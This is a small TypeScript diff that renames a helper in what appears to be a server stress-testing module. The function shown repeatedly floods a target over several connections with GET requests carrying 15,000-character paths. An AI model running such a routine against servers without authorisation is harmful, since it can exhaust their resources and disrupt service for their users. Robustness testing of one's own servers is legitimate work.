@@ -1,8 +1,8 @@
-import { head, openConnections, type Attack, type Target } from './attack.ts'
+import { requestHead, openConnections, type Attack, type Target } from './attack.ts'
 
 /** A1: requests addresses of 15 KB of one letter, one after the other on each connection. */
 export function askForLongPaths(target: Target, { connections = 4, letter = 'a' } = {}): Attack {
-  const request = head(target, `GET /assets/${letter.repeat(15_000)}`)
+  const request = requestHead(target, `GET /assets/${letter.repeat(15_000)}`)
   return openConnections(target, connections, (socket) => {
     socket.write(request)
     socket.on('data', () => socket.writable && socket.write(request))
